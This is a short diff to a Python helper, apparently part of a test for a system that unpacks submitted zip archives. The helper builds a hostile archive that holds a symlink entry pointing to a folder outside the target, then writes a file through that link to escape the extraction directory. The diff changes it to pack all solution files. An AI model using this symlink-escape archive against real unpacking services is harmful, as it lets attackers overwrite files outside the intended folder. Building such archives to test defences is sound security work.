@@ -1,6 +1,5 @@
 """submission
 attack: a zip that first holds a link to a folder outside, then a file that is written through it
-refused: 'way', a link or no ordinary file
 """
 import stat
 import zipfile
@@ -11,7 +10,8 @@ def make(folder, solution):
     link = zipfile.ZipInfo("way")
     link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
     with zipfile.ZipFile(path, "w") as archive:
-        archive.write(solution / "convolution.py", "convolution.py")
+        for file in solution.iterdir():
+            archive.write(file, file.name)
         archive.writestr(link, str(folder / "outside"))
         archive.writestr("way/escaped", "evil")
     return path
